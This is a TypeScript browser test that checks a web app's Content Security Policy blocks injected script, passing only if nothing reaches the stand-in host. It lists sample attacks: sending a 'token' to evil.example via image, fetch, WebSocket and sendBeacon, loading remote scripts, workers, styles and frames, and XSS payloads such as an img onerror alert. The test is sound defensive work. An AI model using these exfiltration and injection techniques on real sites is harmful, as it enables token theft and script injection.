import { expect, journey } from './campus.ts'

declare global {
  interface Window {
    violated?: string | undefined
    readonly trustedTypes?: { createPolicy(name: string, rules: object): unknown }
  }
}

/** The ways in which a script that got into the page could carry a token out or bring in more, with the directive against each. */
const attacks: readonly (readonly [directive: string, attack: () => unknown])[] = [
  ['img-src', () => (new Image().src = 'https://evil.example/?token')],
  ['connect-src', () => fetch('https://evil.example/', { method: 'POST', body: 'token' })],
  ['connect-src', () => new WebSocket('wss://evil.example/?token')],
  ['connect-src', () => navigator.sendBeacon('https://evil.example/', 'token')],
  ['require-trusted-types-for', () => Reflect.apply(setTimeout, window, ['alert(1)'])],
  ['require-trusted-types-for', () => (document.createElement('script').text = 'alert(1)')],
  ['require-trusted-types-for', () => (document.createElement('script').src = 'https://evil.example/')],
  ['require-trusted-types-for', () => (document.createElement('p').innerHTML = '<img src=x onerror=alert(1)>')],
  ['require-trusted-types-for', () => new Worker('https://evil.example/')],
  ['trusted-types', () => window.trustedTypes?.createPolicy('default', {})],
  ['trusted-types', () => window.trustedTypes?.createPolicy('evil', {})],
  ['style-src-attr', () => document.body.setAttribute('style', 'background: url(https://evil.example/)')],
  [
    'style-src-elem',
    () => document.head.append(Object.assign(document.createElement('style'), { textContent: '*{}' })),
  ],
  [
    'style-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/' }),
      ),
  ],
  [
    'frame-src',
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
  ],
  [
    'base-uri',
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
  ],
  [
    'form-action',
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
      document.body.append(form)
      form.submit()
    },
  ],
]

journey.use({ refused: /./ })

journey(
  'T9: script that got into the page sends nothing elsewhere and brings in nothing more',
  async ({ campus, page }) => {
    const sent: string[] = []
    page.on('response', (response) => void (response.url().includes('evil.example') && sent.push(response.url())))
    await campus.open('/home')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', (event) => (window.violated = event.effectiveDirective))
    })
    for (const [directive, attack] of attacks) {
      await page.evaluate(() => (window.violated = undefined))
      await page.evaluate(attack).catch(() => undefined)
      await expect.poll(() => page.evaluate(() => window.violated), { message: String(attack) }).toBe(directive)
    }
    expect(sent).toEqual([])
  },
)
